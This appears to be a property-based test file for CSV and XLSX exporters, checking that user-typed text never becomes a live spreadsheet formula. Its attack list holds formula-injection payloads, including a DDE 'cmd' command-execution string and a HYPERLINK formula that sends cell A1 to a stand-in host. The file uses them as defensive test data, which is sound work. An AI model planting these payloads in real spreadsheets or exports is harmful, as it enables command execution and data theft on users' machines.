// Whatever a person can type comes out of an exported file as the text that it was, and nowhere as a formula.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvOf } from '../../../api/exports/csv.ts';
import { xlsxOf } from '../../../engine/documents/xlsx.ts';
import { holds } from '../../support/run/holds.ts';
import { readXlsx } from './read-xlsx.ts';

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00A0=',
  '\u200B=',
  "'",
  '_x0041_',
  '\uFFFD',
];
const attacks = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1;"смотрите")',
  '@SUM(1+1)*cmd',
  '+77010000001',
  '-1+2',
  '"=1+1"',
  'a";=1+1;"',
  'a\r\n=1+1',
  'Әлия; =1+1',
  '_x000D_=1+1',
  '<c><f>1+1</f></c>',
  ']]>&amp;',
];

/** Well-formed text without the controls that no keyboard sends. */
const typed = fc
  .tuple(fc.constantFrom('', ...STARTS), fc.string({ unit: 'grapheme', maxLength: 30 }))
  .map(([start, rest]) => `${start}${rest}`.replace(/[^\P{Cc}\t\n\r]/gu, ''));
/** What every object has: a map that is one finds them without having been given them. */
const names = Object.getOwnPropertyNames(Object.prototype);
const texts = fc.oneof(typed, fc.constantFrom(...attacks, ...names));

const RISKY = /^[=+\-@＝＋－＠\t\r\n]/u;

test('CSV: a strict reader finds every text, at most with an apostrophe before it, and no formula', async () => {
  await holds(
    fc.property(fc.array(fc.array(texts, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
      const read = parse(csvOf([['a', 'b', 'c'], ...rows]), {
        bom: true,
        delimiter: ';',
        record_delimiter: '\r\n',
      });
      expect(read).toHaveLength(rows.length + 1);
      for (const [index, row] of rows.entries())
        for (const [column, text] of row.entries()) {
          const cell = read[index + 1]?.[column] ?? '';
          expect([text, `'${text}`]).toContain(cell);
          expect(cell.trimStart()).not.toMatch(RISKY);
        }
    }),
    { numRuns: 300 },
  );
});

test('XLSX: every text is a cell of text and reads as it was typed', async () => {
  await holds(
    fc.asyncProperty(fc.array(texts, { minLength: 1, maxLength: 12 }), async (row) => {
      const [, read = {}] = readXlsx(await xlsxOf([row.map((_, index) => `column ${index}`), row]));
      for (const [index, text] of row.entries()) {
        const cell = read[String.fromCharCode(65 + index)];
        if (text === '') expect(cell?.value ?? '').toBe('');
        else expect(cell).toEqual({ kind: 'text', value: text });
      }
    }),
    { numRuns: 200 },
  );
});

test('XLSX: names that every object has are texts like any other, also where a control hid in them', async () => {
  const row = [...names, ...names, 'to\u0001String'];
  const [titles = {}, read = {}] = readXlsx(await xlsxOf([row, row]));
  const shown = [...names, ...names, 'toString'];
  for (const cells of [titles, read]) expect(Object.values(cells).map(({ value }) => value)).toEqual(shown);
});

test('what no file can hold is left out or replaced, and does not spoil the rest', async () => {
  const broken = ['a\0b', '\uD800=1', 'c\u0001\uFFFE', 'fine'];
  const [, read = {}] = readXlsx(await xlsxOf([['1', '2', '3', '4'], broken]));
  expect(Object.values(read).map((each) => each.value)).toEqual(['ab', '=1', 'c', 'fine']);
  expect(String(csvOf([broken]))).not.toMatch(/\0/);
});

test('numbers are numbers in both', async () => {
  const [, read = {}] = readXlsx(await xlsxOf([['n'], [20_000]]));
  expect(read.A).toEqual({ kind: 'number', value: '20000' });
  expect(String(csvOf([[20_000, 'x']]))).toBe('\uFEFF20000;"x"\r\n');
});
